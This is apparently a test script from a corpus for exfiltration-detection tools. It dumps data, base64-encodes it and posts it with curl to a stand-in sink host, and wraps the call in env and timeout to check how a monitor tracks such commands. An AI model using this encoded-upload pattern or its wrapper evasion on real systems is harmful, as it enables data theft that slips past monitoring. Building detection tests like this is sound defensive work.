#!/bin/bash
# B-argv-wrapped: the dump's text on the command line of a program that executes another with it: env, timeout.
# flow: argv over two execs in one process, and over exec, fork, exec.
# tools: curl base64
# expect: sent encoded port critical
. "$CORPUS/lib.sh"
mkdump
sink http
env NAME=value timeout 20 curl -sS -d "$(head -c 60000 "$D" | base64 -w0)" "http://$SINK:$PORT/up"
sunk 80000
